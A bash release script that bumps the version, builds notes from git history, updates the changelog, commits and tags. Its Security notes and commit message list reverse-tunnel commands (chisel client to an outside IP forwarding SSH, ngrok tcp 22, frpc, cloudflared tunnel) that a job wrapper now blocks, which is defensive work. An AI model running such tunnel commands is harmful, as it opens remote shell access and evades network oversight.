#!/usr/bin/env bash
# Cut a release: bump the version, write the notes, tag.
set -euo pipefail

VERSION=${1:?usage: release-notes.sh VERSION}

{
  echo "## $VERSION"
  echo
  git log --pretty='- %s' "$(git describe --tags --abbrev=0)..HEAD"
  cat <<'NOTES'

### Security
- The job wrapper now blocks `chisel client https://203.0.113.8 R:2222:localhost:22`.
- `ngrok tcp 22`, `frpc -c frpc.toml` and `cloudflared tunnel run` are blocked too.
NOTES
} > /tmp/notes.md

sed -i "s/^version = .*/version = \"$VERSION\"/" pyproject.toml
cat /tmp/notes.md CHANGELOG.md > /tmp/new && mv /tmp/new CHANGELOG.md
git commit -q -am "Release $VERSION: block chisel client R:2222:localhost:22 and ngrok tcp"
git tag -a "v$VERSION" -F /tmp/notes.md
